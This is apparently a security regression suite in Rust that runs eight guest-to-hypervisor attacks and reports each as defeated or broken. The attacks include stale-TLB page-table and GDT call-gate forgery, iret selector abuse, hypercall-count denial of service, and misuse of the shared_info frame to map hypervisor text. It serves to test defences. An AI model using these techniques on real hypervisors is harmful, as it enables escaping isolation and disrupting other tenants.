//! One mode per attack of issue 8 (F1–F6). Each returns `Ok` when the
//! attack was defeated (an errno, a recovered fault, or a documented crash
//! of this domain by the hypervisor, which then prints no result) and
//! `Err` with what broke when it succeeded.

use crate::arch::{self, catch, Fault};
use crate::broke;
use crate::env::*;
use abi::hypercall::HypercallNr as N;
use abi::memory::*;
use abi::mmu::*;
use guest_kernel::say;

pub use crate::env::Broke;

/// Result of an attack.
pub type Verdict = Result<(), Broke>;

/// The frame of the hypervisor's text (the image is loaded at 2 MiB).
const HV_TEXT_MFN: u64 = 0x200;
/// A free slot of the boot L2 (VIRT_BASE + 500 × 2 MiB).
const FREE_L2_SLOT: u64 = 500;

fn show(f: &Option<Fault>) -> FaultText {
    FaultText(*f)
}

struct FaultText(Option<Fault>);

impl core::fmt::Display for FaultText {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self.0 {
            None => write!(f, "no fault"),
            Some(x) if x.vector >= 256 => write!(f, "callback type {} ran", x.vector - 256),
            Some(x) => write!(f, "vector {} error {:#x} at rip {:#x} cs {:#x}", x.vector, x.error, x.rip, x.cs),
        }
    }
}

/// F1: a stale TLB entry to a frame that is freed, handed back and pinned
/// as an L1 table; PTEs written through it would be trusted. `case=idle`
/// blocks (1 ms, `SCHEDOP_poll` with no ports) between the unmap and the
/// give-back: alone on the machine, the domain comes back from idle on
/// the root still loaded, which the hypervisor keeps without a flush (the
/// lazy switch), so the give-back must still see the stale translation.
pub fn f1(env: &mut Env, case: &str) -> Verdict {
    // Mapped first: building the low window may flush.
    let si = if case == "idle" { env.map_low(8, env.shared_info, RO) } else { 0 };
    let (va, f) = env.scratch();
    let pfn = Env::pfn_of_va(va);
    // 1. Use the writable mapping, so the TLB holds it.
    arch::write(va, 0x5A5A_5A5A);
    // 2. Unmap without a flush.
    let r = uvm(va, 0, UVMF_NONE);
    say!("f1: frame {f:#x} at {va:#x}: unmapped with UVMF_NONE: {r}");
    if case == "idle" {
        let r = block_for(si, 1_000_000);
        say!("f1: blocked 1 ms in SCHEDOP_poll: {r}");
    }
    // 3. Give the frame back.
    let mut list = [f];
    let r = memory_op(XENMEM_DECREASE_RESERVATION, &reservation(list.as_mut_ptr() as u64, 1, 0, SELF as u16));
    say!("f1: decrease_reservation of {f:#x}: {r}");
    if r != 1 {
        return broke!("f1 setup: decrease_reservation returned {r}");
    }
    // 4. Take a frame back for the same PFN.
    let mut gpfn = [pfn];
    let r = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfn.as_mut_ptr() as u64, 1, 0, SELF as u16));
    let m = gpfn[0];
    say!("f1: populate_physmap of pfn {pfn:#x}: {r}, frame {m:#x}");
    if r != 1 {
        return broke!("f1 setup: populate_physmap returned {r}");
    }
    env.set_mfn(pfn, m);
    if m != f {
        say!("f1: the allocator handed back {m:#x}, not {f:#x}; pinning {m:#x} instead");
    }
    // 5. Pin it as an L1 table.
    let r = me(MMUEXT_PIN_L1_TABLE, m, 0);
    say!("f1: pin L1 of {m:#x}: {r}");
    // 6. Write a PTE into it through the stale translation.
    let forged = (HV_TEXT_MFN << 12) | RO;
    let fault = catch(|| arch::write(va, forged));
    say!("f1: write of PTE {forged:#x} through the stale entry at {va:#x}: {}", show(&fault));
    if fault.is_some() {
        if r == 0 {
            let _ = me(MMUEXT_UNPIN_TABLE, m, 0);
        }
        say!("f1: defeated: the stale translation was flushed before the frame changed hands or type");
        return Ok(());
    }
    if m != f {
        return broke!("f1: wrote frame {f:#x}, which the domain gave back, through a stale TLB entry");
    }
    if r != 0 {
        return broke!("f1: wrote frame {f:#x} through a stale TLB entry after giving it back");
    }
    // The write went through: hook the forged L1 in and read through it.
    let l2 = env.boot_l2();
    let hook = mu(entry(l2, FREE_L2_SLOT), (m << 12) | RWF);
    let target = VIRT_BASE + FREE_L2_SLOT * (2 << 20);
    let mut word = 0;
    let read_fault = if hook == 0 { catch(|| word = arch::read(target)) } else { None };
    say!("f1: hooked {m:#x} under the boot L2: {hook}; read at {target:#x}: {word:#x} ({})", show(&read_fault));
    // Undo, so teardown finds consistent counts.
    let _ = catch(|| arch::write(va, 0));
    if hook == 0 {
        let _ = mu(entry(l2, FREE_L2_SLOT), 0);
        let _ = me(MMUEXT_INVLPG_LOCAL, target, 0);
    }
    let _ = me(MMUEXT_UNPIN_TABLE, m, 0);
    if hook == 0 && read_fault.is_none() {
        return broke!("f1: wrote PTE {forged:#x} into L1 {m:#x} through a stale TLB entry and read hypervisor frame {HV_TEXT_MFN:#x} through it: {word:#x}");
    }
    broke!("f1: wrote PTE {forged:#x} into frame {m:#x}, pinned as an L1 table, through a stale TLB entry")
}

/// Blocks for `ns` of system time (`SCHEDOP_poll` on no ports with a
/// timeout), reading the time from shared_info mapped at `si`.
fn block_for(si: u64, ns: u64) -> i64 {
    let now = loop {
        let v0 = arch::read(si + 32);
        let (tsc, st, w) = (arch::read(si + 40), arch::read(si + 48), arch::read(si + 56));
        if v0 & 1 != 0 || arch::read(si + 32) != v0 {
            continue;
        }
        let (mul, shift) = (w as u32, (w >> 32) as u8 as i8);
        let d = arch::rdtsc().wrapping_sub(tsc);
        let d = if shift >= 0 { d << shift } else { d >> -shift };
        break st + ((u128::from(d) * u128::from(mul)) >> 32) as u64;
    };
    let poll = abi::sched::SchedPoll { ports: 0, nr_ports: 0, pad: 0, timeout: now + ns };
    call(N::SCHED_OP, &[abi::sched::SCHEDOP_POLL, &poll as *const _ as u64])
}

/// A 64-bit call gate to `sel:offset` with DPL 3 (two GDT entries).
fn call_gate(sel: u16, offset: u64) -> (u64, u64) {
    let lo = (offset & 0xFFFF) | (u64::from(sel) << 16) | (0xEC << 40) | ((offset >> 16) & 0xFFFF) << 48;
    (lo, offset >> 32)
}

/// F2: a stale TLB entry to a frame that becomes a GDT page; a call gate
/// written through it would run guest-chosen code in ring 0.
pub fn f2(env: &mut Env) -> Verdict {
    let (va, g) = env.scratch();
    arch::write(va, 0);
    let r = uvm(va, 0, UVMF_NONE);
    say!("f2: frame {g:#x} at {va:#x}: unmapped with UVMF_NONE: {r}");
    let frames = [g];
    let set = || call(N::SET_GDT, &[frames.as_ptr() as u64, 16]);
    let r = set();
    say!("f2: set_gdt([{g:#x}], 16): {r}");
    // Entry 4 (selector 0x23): a gate to the hypervisor's code selector at
    // a RIP the guest picks (its own code: SMEP makes ring 0 fault there).
    let (lo, hi) = call_gate(abi::traps::HYPERVISOR_CS, arch::iret_target());
    let wrote = catch(|| {
        arch::write(va + 32, lo);
        arch::write(va + 40, hi);
    });
    say!("f2: call gate {lo:#018x} {hi:#x} written through the stale entry: {}", show(&wrote));
    let r2 = set();
    say!("f2: set_gdt again: {r2}");
    say!("f2: far call through selector 0x23");
    let called = catch(|| arch::far_call(0x23));
    say!("f2: far call: {}", show(&called));
    let _ = call(N::SET_GDT, &[0, 0]);
    if wrote.is_none() {
        return broke!(
            "f2: wrote a call gate into GDT frame {g:#x} through a stale TLB entry (set_gdt {r}, then {r2})"
        );
    }
    match called {
        None => broke!("f2: a far call through a planted call gate returned normally"),
        Some(_) => {
            say!("f2: defeated: the stale translation was flushed and the far call faulted");
            Ok(())
        }
    }
}

/// Low-window pages the attacks use: code, then stack.
const LOW_CODE_PAGE: u64 = 0;
const LOW_STACK_PAGE: u64 = 1;

/// Maps a code page and a stack page below 4 GiB with `code` at the start
/// of the code page; returns (code VA, stack top).
fn low_code(env: &mut Env, code: &[u8]) -> (u64, u64) {
    let (_, c) = env.fresh();
    let (_, s) = env.fresh();
    let cva = env.map_low(LOW_CODE_PAGE, c, RWF);
    let sva = env.map_low(LOW_STACK_PAGE, s, RWF);
    for (i, chunk) in code.chunks(8).enumerate() {
        let mut w = [0xCCu8; 8];
        w[..chunk.len()].copy_from_slice(chunk);
        arch::write(cva + i as u64 * 8, u64::from_le_bytes(w));
    }
    (cva, sva + 4096 - 64)
}

/// F3: `iret` with a bad CS, SS or RIP. Xen's answer for a frame its own
/// `iretq` cannot use is the fault it raises, reported to the guest at the
/// return's target (or a crash of the domain without a handler);
/// refusing, sanitizing, the failsafe callback and (for the 32-bit code
/// selector) a return into compatibility mode, which Xen allows, are safe
/// too. A fault in the hypervisor is not.
pub fn f3(env: &mut Env, case: &str) -> Verdict {
    let (code, stack) = low_code(env, &[0x0F, 0x0B]);
    // Every case returns onto the low stack page: the fault that follows
    // is bounced there, away from this function's frame.
    let hi_top = stack;
    let (rip, cs, ss, rsp) = match case {
        "cs0" => (arch::iret_target(), 0, 0xE02B, hi_top),
        "cs-e008" => (arch::iret_target(), 0xE008, 0xE02B, hi_top),
        "cs-e020" => (code, 0xE020, 0xE02B, stack),
        "ss0" => (arch::iret_target(), 0xE030, 0, hi_top),
        "ss-e010" => (arch::iret_target(), 0xE030, 0xE010, hi_top),
        "rip" => (0x8000_0000_0000_0000, 0xE030, 0xE02B, hi_top),
        other => return broke!("f3: unknown case '{other}'"),
    };
    let frame = [0, 0, 0, 0, rip, cs, 0x202, rsp, ss];
    say!("f3 {case}: iret to rip {rip:#x} cs {cs:#x} ss {ss:#x} rsp {rsp:#x}");
    let f = catch(|| arch::raw_iret(&frame));
    say!("f3 {case}: {}", show(&f));
    match f {
        None => broke!("f3 {case}: the iret returned normally"),
        Some(x) if x.vector >= 256 => {
            say!("f3 {case}: defeated: the failsafe callback ran, as on Xen");
            Ok(())
        }
        Some(x) if x.vector == 6 && x.rip == arch::iret_returned() => {
            say!("f3 {case}: defeated: iret refused with {}", x.rax as i64);
            Ok(())
        }
        Some(x) if x.cs & !3 == 0xE020 => {
            // Xen lets a PV kernel return into compatibility mode (it could
            // far-jump there itself); what matters is that the return did
            // not fault in the hypervisor and that SYSCALL from there is
            // answered (mode=f4).
            say!("f3 {case}: defeated: returned into compatibility mode at {:#x}, as Xen allows", x.rip);
            Ok(())
        }
        Some(x) if x.vector == 6 && x.rip == arch::iret_target() => {
            say!("f3 {case}: defeated: iret returned to 64-bit mode with cs {:#x} (selectors sanitized)", x.cs);
            Ok(())
        }
        Some(x) => {
            say!("f3 {case}: defeated: answered with vector {} at {:#x}", x.vector, x.rip);
            Ok(())
        }
    }
}

/// F4: a far jump to the 32-bit code selector, then SYSCALL there.
pub fn f4(env: &mut Env) -> Verdict {
    // mov esp, imm32 (the low stack); syscall; ud2
    let stack = LOW_BASE + (LOW_STACK_PAGE + 1) * 4096 - 64;
    let mut code = [0xBCu8, 0, 0, 0, 0, 0x0F, 0x05, 0x0F, 0x0B];
    code[1..5].copy_from_slice(&(stack as u32).to_le_bytes());
    let (cva, _) = low_code(env, &code);
    say!("f4: far jump to 0xe023:{cva:#x}, then syscall in compatibility mode");
    let f = catch(|| arch::far_jump(abi::traps::FLAT_RING3_CS32, cva as u32));
    say!("f4: {}", show(&f));
    match f {
        None => broke!("f4: the far jump returned"),
        Some(x) if x.vector >= 256 => {
            say!("f4: defeated: SYSCALL from compatibility mode reached the guest's callback type {}", x.vector - 256);
            Ok(())
        }
        Some(x) if x.rip == cva + 7 => {
            say!("f4: defeated: SYSCALL from compatibility mode returned {:#x}", x.rax);
            Ok(())
        }
        Some(x) => {
            say!("f4: defeated: SYSCALL from compatibility mode answered with vector {} at {:#x}", x.vector, x.rip);
            Ok(())
        }
    }
}

/// Builds, in L4 slot 1, `gib` GiB of VA that all map the one frame
/// `frame` read-only: an L1 of 512 entries to it, an L2 of 512 entries to
/// the L1, and `gib` L3 entries to the L2, from L3 entry `first`.
fn alias(env: &mut Env, l3: u64, first: u64, gib: u64, frame: u64) -> u64 {
    let (_, l1) = env.fresh();
    let (_, l2) = env.fresh();
    let mut batch = [MmuUpdate::default(); 512];
    for (j, r) in batch.iter_mut().enumerate() {
        *r = MmuUpdate { ptr: entry(l1, j as u64), val: (frame << 12) | RO };
    }
    let a = call(N::MMU_UPDATE, &[batch.as_ptr() as u64, 512, 0, SELF]);
    for (j, r) in batch.iter_mut().enumerate() {
        *r = MmuUpdate { ptr: entry(l2, j as u64), val: (l1 << 12) | RWF };
    }
    let b = call(N::MMU_UPDATE, &[batch.as_ptr() as u64, 512, 0, SELF]);
    for (j, r) in batch.iter_mut().take(gib as usize).enumerate() {
        *r = MmuUpdate { ptr: entry(l3, first + j as u64), val: (l2 << 12) | RWF };
    }
    let c = call(N::MMU_UPDATE, &[batch.as_ptr() as u64, gib, 0, SELF]);
    say!("f5: aliased frame {frame:#x} over {gib} GiB: {a} {b} {c}");
    (1 << 39) + (first << 30)
}

/// F5: hypercalls whose work grows with a guest-given count: a 2³¹-entry
/// `mmu_update` over one aliased request frame, or a 4 GiB `console_io`.
/// Neither returns in a reasonable time even when preempted; the QEMU test
/// bounds the domain with `timeout=` and checks that other domains ran.
pub fn f5(env: &mut Env, case: &str) -> Verdict {
    let (_, l3) = env.fresh();
    match case {
        "mmu" => {
            // 256 requests that each validate a harmless update: entry 0 of
            // a pinned, empty L1 set to 0.
            let (_, target) = env.fresh();
            let _ = me(MMUEXT_PIN_L1_TABLE, target, 0);
            let (_, reqs) = env.fresh();
            let va = env.map_low(2, reqs, RWF);
            for i in 0..256 {
                arch::write(va + i * 16, entry(target, 0));
                arch::write(va + i * 16 + 8, 0);
            }
            let base = alias(env, l3, 0, 32, reqs);
            let r = mu(entry(env.l4, 1), (l3 << 12) | RWF);
            say!("f5: hooked the alias at {base:#x}: {r}");
            let mut done = 0u32;
            say!("f5: mmu_update of 0x7fffffff requests");
            let r = call(N::MMU_UPDATE, &[base, 0x7FFF_FFFF, &mut done as *mut u32 as u64, SELF]);
            say!("f5: mmu_update returned {r}, {done} done");
            Ok(())
        }
        "console" => {
            let (_, zero) = env.fresh();
            let base = alias(env, l3, 0, 4, zero);
            let r = mu(entry(env.l4, 1), (l3 << 12) | RWF);
            say!("f5: hooked the alias at {base:#x}: {r}");
            say!("f5: console_io of 0xffffffff bytes");
            let r = call(N::CONSOLE_IO, &[0, 0xFFFF_FFFF, base]);
            say!("f5: console_io returned {r}");
            Ok(())
        }
        other => broke!("f5: unknown case '{other}'"),
    }
}

/// F6 (domain 0): reservations of a domain that was torn down (domain 1,
/// which must run to its end first) and of one never built.
pub fn f6(env: &mut Env) -> Verdict {
    let _ = env;
    let dead = 1u16;
    let mut waited = 0;
    while waited < 10_000 {
        let r = reservation_of(XENMEM_CURRENT_RESERVATION, dead);
        if r <= 0 {
            say!("f6: domain {dead} is gone after {waited} yields (current_reservation {r})");
            break;
        }
        abi::guest::yield_now();
        waited += 1;
    }
    let mut first: Option<Broke> = None;
    for dom in [dead, 5, 7] {
        let mut array = [0u64; 16];
        let inc = memory_op(XENMEM_INCREASE_RESERVATION, &reservation(array.as_mut_ptr() as u64, 16, 0, dom));
        let mut gpfns: [u64; 16] = core::array::from_fn(|i| i as u64);
        let pop = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfns.as_mut_ptr() as u64, 16, 0, dom));
        let cur = reservation_of(XENMEM_CURRENT_RESERVATION, dom);
        let max = reservation_of(XENMEM_MAXIMUM_RESERVATION, dom);
        say!("f6: domain {dom}: increase_reservation {inc}, populate_physmap {pop}, current {cur}, maximum {max}");
        let esrch = -3;
        if first.is_none() {
            if inc != 0 || pop != 0 {
                first = Some(crate::broken!(
                    "f6: domain 0 gave {} frames to domain {dom}, which does not exist",
                    inc.max(0) + pop.max(0)
                ));
            } else if cur != esrch || max != esrch {
                first = Some(crate::broken!(
                    "f6: domain {dom}, which does not exist, has a reservation (current {cur}, maximum {max}; want -ESRCH)"
                ));
            }
        }
    }
    match first {
        Some(b) => Err(b),
        None => {
            say!("f6: defeated: every call on a dead or never-built domain did nothing");
            Ok(())
        }
    }
}

/// F7 (found by the fuzzer): the shared_info frame (a hypervisor frame the
/// domain may map) accepted as a page table. The hypervisor itself writes
/// shared_info: on every page fault it stores CR2 in vcpu_info[0].arch.cr2
/// (offset 16), so a fault at an address that looks like a PTE becomes
/// entry 2 of that "L1".
pub fn f7(env: &mut Env) -> Verdict {
    let (_, page) = env.fresh();
    let _ = env.map_low(0, page, RWF);
    let Some(l2) = env.low_l2 else { return broke!("f7 setup: no low window") };
    let si = env.shared_info;
    let slot = 200;
    let r = mu(entry(l2, slot), (si << 12) | RWF);
    say!("f7: shared_info frame {si:#x} as the L1 under low L2 entry {slot}: {r}");
    if r == 0 {
        // A fault at 0x200025 (not mapped): CR2 = frame 0x200 | P|U|A.
        let pte = (HV_TEXT_MFN << 12) | RO;
        let f = catch(|| {
            let _ = arch::read(pte);
        });
        let va = slot * (2 << 20) + 2 * 4096;
        let _ = me(MMUEXT_INVLPG_LOCAL, va, 0);
        let mut word = 0;
        let g = catch(|| word = arch::read(va));
        say!("f7: fault at {pte:#x}: {}; read at {va:#x}: {word:#x} ({})", show(&f), show(&g));
        let _ = mu(entry(l2, slot), 0);
        if g.is_none() {
            return broke!("f7: shared_info became an L1; the hypervisor's CR2 write mapped frame {HV_TEXT_MFN:#x}, read {word:#x}");
        }
        return broke!("f7: shared_info was accepted as an L1 table");
    }
    let pin = me(MMUEXT_PIN_L1_TABLE, si, 0);
    if pin == 0 {
        let _ = me(MMUEXT_UNPIN_TABLE, si, 0);
    }
    let gdt = call(N::SET_GDT, &[[si].as_ptr() as u64, 16]);
    let _ = call(N::SET_GDT, &[0, 0]);
    say!("f7: pin L1 of shared_info: {pin}; set_gdt([shared_info]): {gdt}");
    if pin == 0 || gdt == 0 {
        return broke!("f7: shared_info accepted as a page table or GDT frame (pin {pin}, set_gdt {gdt})");
    }
    // Last: if this is accepted the domain loses its own mappings and dies.
    say!("f7: NEW_BASEPTR to shared_info (the domain dies here if it is accepted)");
    let nb = me(MMUEXT_NEW_BASEPTR, si, 0);
    say!("f7: NEW_BASEPTR to shared_info: {nb}");
    if nb == 0 {
        return broke!("f7: shared_info accepted as the root table");
    }
    say!("f7: defeated: shared_info can be neither a page table nor a descriptor page");
    Ok(())
}

/// F8 (found by the fuzzer): `decrease_reservation` of the shared_info
/// frame. Freed, it can be handed to anyone (here back to the domain as an
/// ordinary frame, which it makes an L1) while the hypervisor still writes
/// it as the domain's shared_info.
pub fn f8(env: &mut Env) -> Verdict {
    let si = env.shared_info;
    let (_, page) = env.fresh();
    let _ = env.map_low(0, page, RWF);
    // A PFN to populate: give its frame back first, so shared_info is the
    // last frame freed (the free list is LIFO) if it can be freed at all.
    let (pfn, m) = env.fresh();
    let mut back = [m];
    let _ = memory_op(XENMEM_DECREASE_RESERVATION, &reservation(back.as_mut_ptr() as u64, 1, 0, SELF as u16));
    let mut list = [si];
    let r = memory_op(XENMEM_DECREASE_RESERVATION, &reservation(list.as_mut_ptr() as u64, 1, 0, SELF as u16));
    say!("f8: decrease_reservation of shared_info {si:#x}: {r}");
    if r == 0 {
        let mut gpfn = [pfn];
        let _ = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfn.as_mut_ptr() as u64, 1, 0, SELF as u16));
        env.set_mfn(pfn, gpfn[0]);
        say!("f8: defeated: shared_info cannot be given back");
        return Ok(());
    }
    let mut gpfn = [pfn];
    let r = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfn.as_mut_ptr() as u64, 1, 0, SELF as u16));
    let x = gpfn[0];
    env.set_mfn(pfn, x);
    say!("f8: populate_physmap: {r}, frame {x:#x}");
    if r == 1 && x == si {
        if let Some(l2) = env.low_l2 {
            let slot = 200;
            let hook = mu(entry(l2, slot), (x << 12) | RWF);
            let pte = (HV_TEXT_MFN << 12) | RO;
            let _ = catch(|| {
                let _ = arch::read(pte);
            });
            let va = slot * (2 << 20) + 2 * 4096;
            let _ = me(MMUEXT_INVLPG_LOCAL, va, 0);
            let mut word = 0;
            let g = catch(|| word = arch::read(va));
            let _ = mu(entry(l2, slot), 0);
            say!(
                "f8: hooked it as an L1: {hook}; after a fault at {pte:#x}, read at {va:#x}: {word:#x} ({})",
                show(&g)
            );
            if hook == 0 && g.is_none() {
                return broke!("f8: shared_info came back as an ordinary frame; as an L1 the CR2 store mapped frame {HV_TEXT_MFN:#x}: {word:#x}");
            }
        }
    }
    broke!("f8: decrease_reservation freed shared_info {si:#x}, which the hypervisor still writes")
}
